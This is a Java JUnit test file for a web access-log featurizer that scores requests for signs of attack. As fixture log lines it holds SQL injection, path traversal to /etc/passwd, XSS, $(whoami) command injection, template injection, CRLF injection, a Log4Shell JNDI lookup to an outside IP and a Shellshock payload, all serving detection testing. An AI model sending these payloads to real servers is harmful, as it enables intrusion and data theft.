package sentinel;

import static org.junit.jupiter.api.Assertions.*;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class FeaturizerTest {
    private final AccessLogParser parser = new AccessLogParser(LogFormat.AUTO);
    private final Featurizer f = new Featurizer(Featurizer.DEFAULT_BUCKETS, true);

    private static final String BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";

    private AccessRecord record(String line) {
        return ((ParseResult.Parsed) parser.parse(line)).record();
    }

    private double[] features(String line) {
        return f.featurize(record(line));
    }

    private static double get(Featurizer f, double[] x, String name) {
        int i = f.schema().indexOf(name);
        assertTrue(i >= 0, "feature " + name + " exists");
        return x[i];
    }

    private double get(double[] x, String name) {
        return get(f, x, name);
    }

    private static String line(String ip, String time, String request, int status, String referrer, String agent) {
        return ip + " - - [27/Nov/2025:10:00:" + time + " +0000] \"" + request + "\" " + status + " 500 \"" + referrer + "\" \"" + agent + "\"";
    }

    @Test
    void schemaHasNamedFixedWidthFeatures() {
        FeatureSchema s = f.schema();
        assertEquals(s.names().length, s.size());
        assertEquals(s.size(), features("10.0.0.1 - - [27/Nov/2025] \"GET /home HTTP/1.1\" 200 500").length);
        for (String required : new String[] {"status_class", "log_bytes", "method", "path_depth", "path_length", "query_length",
                "query_params", "special_chars", "escaped_bytes", "control_bytes", "nonalnum_share", "ext_class", "code_tokens",
                "embedded_url", "referrer_marks", "ua_length", "ua_family", "ua_marks"}) {
            assertTrue(s.indexOf(required) >= 0, required);
        }
    }

    @Test
    void normalPageRequest() {
        double[] x = features(line("10.0.0.1", "00", "GET /home HTTP/1.1", 200, "-", BROWSER));
        assertEquals(2, get(x, "status_class"));
        assertEquals(Math.log1p(500), get(x, "log_bytes"), 1e-12);
        assertEquals(0, get(x, "method"));
        assertEquals(1, get(x, "path_depth"));
        assertEquals(5, get(x, "path_length"));
        assertEquals(0, get(x, "query_length"));
        assertEquals(0, get(x, "ext_class"));
        assertEquals(0, get(x, "ua_family"));
        assertEquals(BROWSER.length(), get(x, "ua_length"));
        assertEquals(0, get(x, "has_referrer"));
        for (String evidence : new String[] {"special_chars", "percent_encoded", "escaped_bytes", "control_bytes", "traversal",
                "sql_tokens", "script_tokens", "code_tokens", "embedded_url", "referrer_marks", "ua_marks"}) {
            assertEquals(0, get(x, evidence), evidence);
        }
        assertEquals(Math.log(5) / Math.log(2), get(x, "target_entropy"), 1e-9, "/home: five different characters, log2(5) bits");
    }

    @Test
    void sqlInjectionQueryIsDecodedBeforeCounting() {
        double[] x = features(line("10.0.0.9", "00", "GET /products.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--&x=2 HTTP/1.1",
                200, "-", "sqlmap/1.7"));
        assertEquals(3, get(x, "ext_class"));
        assertEquals(2, get(x, "query_params"));
        assertEquals(6, get(x, "percent_encoded"));
        assertEquals(1, get(x, "special_chars"), "the decoded quote");
        assertEquals(3, get(x, "sql_tokens"), "union, select, --");
        assertEquals(4, get(x, "ua_family"), "an unknown client is neither browser, bot nor generic library");
        double[] tautology = features(line("10.0.0.9", "00", "GET /search?q=django%20AND%205876%3D5876 HTTP/1.1", 200, "-", BROWSER));
        assertEquals(2, get(tautology, "sql_tokens"), "' and ' and the digit=digit tautology");
    }

    @Test
    void traversalScriptsShellAndTemplates() {
        double[] t = features(line("1.2.3.4", "00", "GET /static/..%2f..%2f../etc/passwd HTTP/1.1", 404, "-", "curl/8.5.0"));
        assertEquals(3, get(t, "traversal"));
        assertEquals(1, get(t, "code_tokens"), "/etc/");
        assertEquals(1, get(t, "status_404"));
        assertEquals(2, get(t, "ua_family"));
        double[] s = features(line("1.2.3.4", "00", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, "-", ""));
        assertEquals(2, get(s, "script_tokens"), "<script and alert(");
        assertEquals(4, get(s, "special_chars"), "two '<' and two '>' once decoded");
        assertEquals(3, get(s, "ua_family"), "empty user agent");
        double[] c = features(line("1.2.3.4", "00", "GET /search?q=$(whoami)&t={{7*7}} HTTP/1.1", 200, "-", BROWSER));
        assertEquals(2, get(c, "code_tokens"), "$( and {{");
        double[] u = features(line("1.2.3.4", "00", "GET /login?next=//evil.example/&u=http://evil.example/ HTTP/1.1", 200, "-", BROWSER));
        assertEquals(2, get(u, "embedded_url"));
    }

    @Test
    void encodingsAndControlBytesAreCounted() {
        double[] nginxEscapes = features(line("1.2.3.4", "00", "GET /search?q=\\x5C\\x22blah HTTP/1.1", 200, "-", BROWSER));
        assertEquals(2, get(nginxEscapes, "escaped_bytes"), "nginx logs '\\' and '\"' as \\x5C and \\x22");
        assertEquals(2, get(nginxEscapes, "special_chars"));
        double[] crlf = features(line("1.2.3.4", "00", "GET /search?q=x%0d%0aSet-Cookie:%20a=1%00 HTTP/1.1", 200, "-", BROWSER));
        assertEquals(3, get(crlf, "control_bytes"), "CR, LF and NUL");
        double[] doubled = features(line("1.2.3.4", "00", "GET /a/..%252f..%252fetc%c0%ae HTTP/1.1", 404, "-", BROWSER));
        assertEquals(3, get(doubled, "escaped_bytes"), "two %25xx double encodings and an overlong %c0");
    }

    @Test
    void attackSyntaxInReferrerAndUserAgentIsMarked() {
        double[] x = features(line("1.2.3.4", "00", "GET / HTTP/1.1", 200, "${jndi:ldap://203.0.113.1/a}",
                "() { :; }; /bin/bash -c 'cat /etc/passwd'"));
        assertTrue(get(x, "referrer_marks") >= 3, "${, {, }, $");
        assertTrue(get(x, "ua_marks") >= 5, "() {, {, }, /bin/, /etc/, quotes");
        double[] search = features(line("1.2.3.4", "00", "GET / HTTP/1.1", 200, "https://www.example.org/search?q=forms%20and%20views", BROWSER));
        assertEquals(0, get(search, "referrer_marks"), "SQL words in a referrer are no mark: search engines send them");
    }

    @Test
    void methodsAndExtensionsAreClassified() {
        assertEquals(0, Featurizer.methodCode("GET"));
        assertEquals(7, Featurizer.methodCode("PROPFIND"));
        assertEquals(8, Featurizer.methodCode("\\x16\\x03\\x01"));
        assertEquals(2, Featurizer.extensionClass("/static/css/site.css"));
        assertEquals(1, Featurizer.extensionClass("/index.html"));
        assertEquals(3, Featurizer.extensionClass("/wp-login.php"));
        assertEquals(4, Featurizer.extensionClass("/.env"));
        assertEquals(0, Featurizer.extensionClass("/products/12"));
        assertEquals(0, Featurizer.extensionClass("/v1.2/docs"), "a dot in a folder name is no extension");
        assertEquals(3, Featurizer.extensionClass("/Admin/Login.PHP"));
        assertEquals(0, Featurizer.extensionClass("/file."));
        assertEquals(1, Featurizer.userAgentFamily("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"));
    }

    @Test
    void hashedPathTokensGroupNumbers() {
        Featurizer tokens = new Featurizer(8, true);
        double[] a = tokens.featurize(record("1.1.1.1 - - [27/Nov/2025] \"GET /products/12 HTTP/1.1\" 200 500"));
        double[] b = tokens.featurize(record("1.1.1.1 - - [27/Nov/2025] \"GET /products/9876 HTTP/1.1\" 200 500"));
        double sum = 0;
        for (int i = 0; i < 8; i++) {
            assertEquals(get(tokens, a, "path_token_" + i), get(tokens, b, "path_token_" + i));
            sum += get(tokens, a, "path_token_" + i);
        }
        assertEquals(2, sum, "two tokens: products and a number");
    }

    @Test
    void userAgentFeaturesCanBeTurnedOff() {
        FeatureSchema on = Featurizer.schemaFor(0, true, true), off = Featurizer.schemaFor(0, false, true);
        for (String ua : new String[] {"ua_length", "ua_family", "ua_marks", "ua_rarity"}) {
            assertTrue(on.indexOf(ua) >= 0, ua);
            assertEquals(-1, off.indexOf(ua), ua + " reads the user agent");
        }
        assertEquals(on.size() - 4, off.size());
    }

    @Test
    void schemaFromAnotherVersionIsRefused() {
        FeatureSchema old = new FeatureSchema(FeatureSchema.CURRENT_VERSION - 1, f.schema().names(), 0, true, false);
        SentinelException e = assertThrows(SentinelException.class, () -> new Featurizer(old, null));
        assertEquals(ExitCodes.BAD_INPUT, e.status());
        assertTrue(e.getMessage().contains("retrain"));
    }

    @Test
    void behaviouralFeaturesMatchBetweenTrainingAndDetection() {
        // one code path: a path seen once in training looks, to its own training line, exactly as a never-seen path does later
        List<AccessRecord> train = new ArrayList<>();
        for (int i = 0; i < 30; i++) train.add(record(line("10.0.0." + i, String.format("%02d", i), "GET /docs/ HTTP/1.1", 200, "-", BROWSER)));
        train.add(record(line("10.0.0.99", "40", "GET /docs/once.html HTTP/1.1", 200, "-", BROWSER)));
        TrafficProfile profile = new TrafficProfile();
        train.forEach(profile::add);
        FeatureSchema schema = Featurizer.schemaFor(0, true, true);
        double[] once = new double[schema.size()];
        new Featurizer(schema, profile).featurize(train.get(30), once, true);
        double[] unseen = new Featurizer(schema, profile).featurize(record(line("10.0.0.99", "40", "GET /docs/never.html HTTP/1.1", 200, "-", BROWSER)));
        Featurizer g = new Featurizer(schema, profile);
        assertEquals(get(g, unseen, "path_rarity"), get(g, once, "path_rarity"), 1e-12);
        assertEquals(profile.rarity(0), get(g, unseen, "path_rarity"), 1e-12);
        assertEquals(profile.rarity(31), get(g, unseen, "section_rarity"), 1e-12, "/docs is the section of every line");
        assertEquals(1.0 / 3, get(g, unseen, "client_new_path_share"), 1e-9, "one new path, smoothed by two clean pseudo-requests");
    }

    @Test
    void syntaxTheTrainingTrafficSentToATargetOftenIsNotEvidence() {
        String broken = "GET /docs/_static/%7B%7B%20pathto('x')%20%7D%7D HTTP/1.1";
        TrafficProfile profile = new TrafficProfile();
        for (int i = 0; i < Featurizer.FAMILIAR + 1; i++) profile.add(record(line("10.0.1." + i, "00", broken, 404, "-", BROWSER)));
        profile.add(record(line("10.0.2.1", "00", "GET /docs/ HTTP/1.1", 200, "-", BROWSER)));
        Featurizer g = new Featurizer(Featurizer.schemaFor(0, true, true), profile);
        double[] familiar = g.featurize(record(line("10.0.3.1", "00", broken, 404, "-", BROWSER)));
        double[] novel = g.featurize(record(line("10.0.3.2", "00", "GET /docs/_static/%7B%7B7*7%7D%7D HTTP/1.1", 404, "-", BROWSER)));
        assertEquals(0, get(g, familiar, "code_tokens"));
        assertEquals(0, get(g, familiar, "percent_encoded"));
        assertEquals(1, get(g, novel, "code_tokens"), "{{ in a target training never sent");
        assertEquals(4, get(g, novel, "percent_encoded"));
        assertEquals(43, get(g, familiar, "path_length"), "shape features stay");
    }

    @Test
    void oneAgentIsScannedOnceAndStillReadRightAfterManyOthers() {
        double[] first = features(line("1.2.3.4", "00", "GET / HTTP/1.1", 200, "-", "<script>x</script>"));
        for (int i = 0; i < 2000; i++) features(line("1.2.3.4", "00", "GET / HTTP/1.1", 200, "-", "agent-" + i));
        double[] again = features(line("1.2.3.4", "00", "GET / HTTP/1.1", 200, "-", "<script>x</script>"));
        assertEquals(get(first, "ua_marks"), get(again, "ua_marks"));
        assertTrue(get(again, "ua_marks") >= 4);
    }

    @Test
    void rememberedTargetsAndAgentsGiveExactlyTheFeaturesComputedAfresh() throws Exception {
        // simulated traffic with attacks: targets repeat, collide in the caches and get evicted; one target and one agent
        // are longer than anything the caches keep
        StringBuilder log = new StringBuilder();
        TrafficSimulator.writeBatch(3, 0.2, LogFormat.COMBINED, java.time.Instant.parse("2025-11-27T00:00:00Z"), 20, 6000, log);
        List<AccessRecord> records = new ArrayList<>();
        for (String l : log.toString().split("\n")) records.add(record(l));
        String longTarget = "GET /search?q=" + "%27%20OR%201%3D1--".repeat(60) + " HTTP/1.1";
        for (int i = 0; i < 3; i++) records.add(record(line("10.9.9.9", "00", longTarget, 200, "-", "x<script>".repeat(80))));
        TrafficProfile profile = new TrafficProfile();
        records.subList(0, 3000).forEach(profile::add);
        FeatureSchema schema = Featurizer.schemaFor(0, true, true);
        Featurizer warm = new Featurizer(schema, profile).forWorker();
        for (boolean trainingLine : new boolean[] {false, true}) {
            for (AccessRecord r : records) {
                double[] cached = new double[schema.size()], fresh = new double[schema.size()];
                long a = warm.perLine(r, cached, trainingLine);
                long b = new Featurizer(schema, profile).forWorker().perLine(r, fresh, trainingLine);
                assertArrayEquals(fresh, cached, r.path() + "?" + r.query());
                assertEquals(b, a);
            }
        }
    }
}
